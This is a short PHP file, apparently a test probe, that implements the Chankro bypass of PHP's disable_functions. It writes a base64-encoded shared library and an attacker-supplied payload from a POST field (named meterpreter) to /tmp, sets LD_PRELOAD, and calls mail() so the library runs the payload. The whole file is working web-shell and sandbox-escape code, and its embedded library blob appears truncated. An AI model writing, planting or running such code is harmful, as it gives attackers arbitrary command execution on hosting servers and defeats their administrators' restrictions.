<?php
// probe (never run): a hook library and a shell script written from base64, run through mail()
$hook = 'f0VMRgIBAQAAAAAAAAAAAAMAPgABAAAA4AcAAAAAAABAAAAAAAAAAAAAAAAAAAAA';
$meterpreter = base64_decode($_POST['payload']);
$path = '/tmp';
file_put_contents($path . '/chankro.so', base64_decode($hook));
file_put_contents($path . '/acpid.socket', $meterpreter);
putenv('CHANKRO=' . $path . '/acpid.socket');
putenv('LD_PRELOAD=' . $path . '/chankro.so');
if (function_exists('mail')) { mail('a', 'a', 'a', 'a'); } else { mb_send_mail('a', 'a', 'a', 'a'); }
